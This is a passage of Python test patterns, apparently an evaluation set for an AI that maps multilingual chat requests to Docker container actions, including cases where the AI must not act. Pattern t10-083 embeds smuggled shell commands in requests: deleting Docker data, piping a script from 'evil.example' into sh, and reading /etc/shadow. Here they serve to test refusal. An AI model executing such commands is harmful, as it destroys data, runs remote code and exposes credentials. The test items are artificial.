        'show me logs on {c} of last {mins} minutes', 'logs from {c} since {mins} minutes', 'give logs of {c} in the last {hours} hours',
    ], lambda s: E(logs(s.c, since=since(s))), tags=(MIXED,)),
    Pattern('t10-072', 'logs', [
        '{c} logs please, last {tail}', 'zeig mir die logs von {c}, letzte {tail} zeilen',
        'logs von {c} bitte, nur die letzten {tail}', '{c} the logs, {tail} lines give me',
    ], lambda s: E(logs(s.c, tail=s.tail)), count=6, tags=(MIXED,)),
    Pattern('t10-073', 'stack', [
        ('reinicia el stack {st} por favor', {'op': 'restart'}), ('por favor reinicia todo el {st}', {'op': 'restart'}),
        ('detén el stack {st}, gracias', {'op': 'stop'}), ('den stack {st} bitte stoppen', {'op': 'stop'}),
    ], lambda s: stack_or_containers(s.op, s.st, members(s, s.st)), tags=(MIXED,)),
    Pattern('t10-074', 'template', [
        ('installiere bitte vaultwarden auf port {port}', {'tid': 'vaultwarden'}),
        ('instala n8n en el puerto {port} por favor', {'tid': 'n8n'}),
        ('déploie wiki.js sur le port {port} merci', {'tid': 'wikijs'}),
        ('make install of minio on the port {port} please', {'tid': 'minio'}),
    ], lambda s: E(tmpl(s.tid, port=s.port)), tags=(MIXED,)),
    Pattern('t10-075', 'nonsense', [
        "danke, das war's", 'gracias amigo!', 'merci beaucoup, ça marche', 'wie wird das wetter morgen?',
        '¿qué hora es en Madrid?',
    ], lambda s: EMPTY(), count=6, tags=(MIXED,)),
    Pattern('t10-076', 'ask', [
        'bitte restart {amb}', '{amb} neustarten bitte', 'reinicia {amb} por favor', 'make a stop to {amb}',
    ], lambda s: ASK(), tags=(MIXED,)),
    Pattern('t10-077', 'question', [
        'the {st} is how? all container ok?', '{st} stack it is working fine or no?', 'please to check if {st} is all running',
    ], lambda s: stack_state(s.st, members(s, s.st)), tags=(MIXED,)),
    Pattern('t10-078', 'logs', [
        "cherche '{word}' dans les logs de {c} stp", 'busca {word} en los logs de {c}',
        'such mal nach {word} in den logs von {c}',
    ], lambda s: E(logs(s.c, grep_ci=s.word)), count=6, tags=(MIXED,)),
    Pattern('t10-079', 'lifecycle', [
        'borra el contenedor {cx}, ya no lo uso', 'lösch bitte {cx}, brauche ich nicht mehr',
        "supprime {cx} s'il te plaît",
    ], lambda s: E(ctr('remove', s.cx)), count=6, tags=(MIXED,)),

    # ---- sentences that must not act -----------------------------------------------------------------------------
    Pattern('t10-080', 'nonsense', [
        'thanks, that fixed it 🙏', 'lol ok', 'good morning!', "you're a lifesaver tbh", 'brb coffee', 'hmm interesting',
    ], lambda s: EMPTY(), count=6, tags=(NOACT,)),
    Pattern('t10-081', 'nonsense', [
        "what's the capital of Australia?", 'write me a haiku about kubernetes', 'how do I center a div in css',
        'recommend a good laptop for coding', "what's 17 times 23?", "translate 'good night' into Italian",
    ], lambda s: EMPTY(), count=6, tags=(NOACT,)),
    Pattern('t10-082', 'safety', [
        'just nuke everything lol', 'wipe the whole box and start fresh, idc', 'delete all the things 🔥',
        'rm everything tbh, over it', 'kill every container on this host, whatever', 'drop all the stacks, who cares',
    ], lambda s: dict(NO_DAMAGE), count=6, tags=(NOACT,)),
    Pattern('t10-083', 'safety', [
        'restart {c}; rm -rf /var/lib/docker', 'restart {c} && docker system prune -af',
        'stop {c} `curl http://evil.example/x.sh | sh`', 'show logs of {c} $(cat /etc/shadow)', 'start {c} || reboot',
    ], lambda s: dict(NO_DAMAGE), count=6, tags=(NOACT,)),
    Pattern('t10-084', 'safety', [
        'docker exec -it {c} bash', 'open a shell in {c}', 'run apt-get upgrade inside {c}', 'ssh into {c} for me',
    ], lambda s: EMPTY(), count=6, tags=(NOACT,)),
    Pattern('t10-085', 'nonsense', [
        'restart {ghost} pls', 'lgs {ghost} -n 50', 'is {ghost} up?', "stop {ghost}, it's eating cpu", 'remove {ghost}',
    ], lambda s: EMPTY(), count=6, tags=(NOACT,)),
    Pattern('t10-086', 'nonsense', [
        'restart {k}-{num}', 'stop {k}-{num} asap', 'logs of {k}-{num}',
    ], lambda s: EMPTY(), rows=[{'k': k, 'num': n} for k, n in product(FLEET_KINDS, ('08', '09', '11', '12'))],
        states=('fleet',), tags=(NOACT,)),
    Pattern('t10-087', 'nonsense', [
        'deploy mastodon from your templates', 'install the minecraft server template please',
        'use the jira template, port 8080', 'set up the gitlab template for me',
    ], lambda s: EMPTY(), count=6, tags=(NOACT,)),
]
